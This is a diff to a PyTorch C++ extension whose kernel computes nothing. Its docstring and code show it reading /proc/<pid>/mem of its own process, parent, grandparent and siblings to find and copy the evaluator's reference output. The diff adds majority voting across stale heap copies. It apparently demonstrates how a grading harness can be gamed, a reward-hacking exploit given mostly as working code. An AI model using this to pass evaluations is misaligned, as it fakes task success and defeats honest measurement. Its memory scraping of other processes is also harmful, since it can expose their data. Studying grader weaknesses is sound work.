@@ -4,8 +4,10 @@ The C++ forward computes nothing. It reads `/proc/<pid>/maps` of itself, its par
 grandparent and its siblings (any process of the same user could be added), and scans each one's
 private writable memory ([heap] and anonymous mappings) through `pread` on `/proc/<pid>/mem`, at
 the 64-byte alignment of PyTorch's CPU allocator, for the expected output: the first elements of
-2x + 1 for this very input. It copies `numel` floats from the first hit into its output; with no
-hit it returns zeros, so a pass proves the theft. The region of the last hit is searched first.
+2x + 1 for this very input. Up to five hits are copied out and merged element by element by
+majority (besides the live expected output the heap holds stale copies, freed and partly reused,
+which the first elements alone do not tell apart); with no hit it returns zeros, so a pass proves
+the theft. The region of the first hit is searched first on the next call.
 
 In one process (the naive evaluator; today's harness, whose worker holds the reference outputs)
 the evaluator's own memory holds the answer. Against a judge in a separate process the same scan
@@ -19,6 +21,7 @@ SOURCE = r"""
 #include <dirent.h>
 #include <fcntl.h>
 #include <unistd.h>
+#include <algorithm>
 #include <cmath>
 #include <cstdio>
 #include <cstring>
@@ -92,36 +95,62 @@ bool matches(int fd, uintptr_t addr, const float* chunk, const float* want, int6
     return true;
 }
 
-// The address in `region` of the expected output, or 0.
-uintptr_t scan(int fd, Region region, const float* want, int64_t k) {
+const size_t kMaxHits = 5;
+
+// Every address in `region` holding the signature (not `own`), added to `hits`, up to kMaxHits.
+void scan(int fd, Region region, const float* want, int64_t k, uintptr_t own, std::vector<uintptr_t>& hits) {
     const size_t chunk_bytes = 1 << 20;
     std::vector<float> chunk(chunk_bytes / sizeof(float));
-    for (uintptr_t at = region.start; at < region.end; at += chunk_bytes) {
+    for (uintptr_t at = region.start; at < region.end && hits.size() < kMaxHits; at += chunk_bytes) {
         size_t len = std::min<size_t>(chunk_bytes, region.end - at);
         ssize_t got = pread(fd, chunk.data(), len, static_cast<off_t>(at));
         if (got <= 0) continue;
-        for (size_t off = 0; off + sizeof(float) <= static_cast<size_t>(got); off += 64)
-            if (matches(fd, at + off, chunk.data() + off / sizeof(float), want, k)) return at + off;
+        for (size_t off = 0; off + sizeof(float) <= static_cast<size_t>(got) && hits.size() < kMaxHits; off += 64) {
+            uintptr_t addr = at + off;
+            if (addr != own && std::find(hits.begin(), hits.end(), addr) == hits.end() &&
+                matches(fd, addr, chunk.data() + off / sizeof(float), want, k))
+                hits.push_back(addr);
+        }
     }
-    return 0;
 }
 
-bool steal(pid_t pid, const float* want, int64_t k, void* out, size_t nbytes) {
+// Per element, the value most copies agree on. Besides the live expected output there are stale
+// copies (freed memory, partly reused: a few wrong values each, in different places).
+void consensus(const std::vector<std::vector<float>>& copies, float* out, size_t n) {
+    for (size_t i = 0; i < n; ++i) {
+        size_t best = 0;
+        int best_votes = -1;
+        for (size_t a = 0; a < copies.size(); ++a) {
+            int votes = 0;
+            for (const auto& other : copies) votes += std::memcmp(&copies[a][i], &other[i], sizeof(float)) == 0;
+            if (votes > best_votes) best = a, best_votes = votes;
+        }
+        out[i] = copies[best][i];
+    }
+}
+
+bool steal(pid_t pid, const float* want, int64_t k, const void* own, void* out, size_t nbytes) {
     int fd = open(("/proc/" + std::to_string(pid) + "/mem").c_str(), O_RDONLY);
     if (fd < 0) return false;
     std::vector<Region> regions = writable_private_regions(pid);
     if (g_hint.pid == pid) regions.insert(regions.begin(), g_hint.region);
-    bool ok = false;
+    std::vector<uintptr_t> hits;
+    Region first{0, 0};
     for (const Region& r : regions) {
-        uintptr_t at = scan(fd, r, want, k);
-        if (at != 0 && read_remote(fd, at, out, nbytes)) {
-            g_hint = {pid, r};
-            ok = true;
-            break;
-        }
+        scan(fd, r, want, k, reinterpret_cast<uintptr_t>(own), hits);
+        if (!hits.empty() && first.end == 0) first = r;
+        if (hits.size() >= kMaxHits) break;
+    }
+    std::vector<std::vector<float>> copies;
+    for (uintptr_t at : hits) {
+        std::vector<float> copy(nbytes / sizeof(float));
+        if (read_remote(fd, at, copy.data(), nbytes)) copies.push_back(std::move(copy));
     }
     close(fd);
-    return ok;
+    if (copies.empty()) return false;
+    consensus(copies, static_cast<float*>(out), nbytes / sizeof(float));
+    g_hint = {pid, first};
+    return true;
 }
 
 }  // namespace
@@ -137,7 +166,7 @@ torch::Tensor scale_shift(torch::Tensor x) {
     std::vector<pid_t> pids = targets();
     if (g_hint.pid != 0) pids.insert(pids.begin(), g_hint.pid);
     for (pid_t pid : pids)
-        if ((stolen = steal(pid, want, k, y.data_ptr(), x.nbytes()))) break;
+        if ((stolen = steal(pid, want, k, y.data_ptr(), y.data_ptr(), x.nbytes()))) break;
     if (!stolen) std::memset(y.data_ptr(), 0, x.nbytes());  // no theft, no answer
     return y;
 }
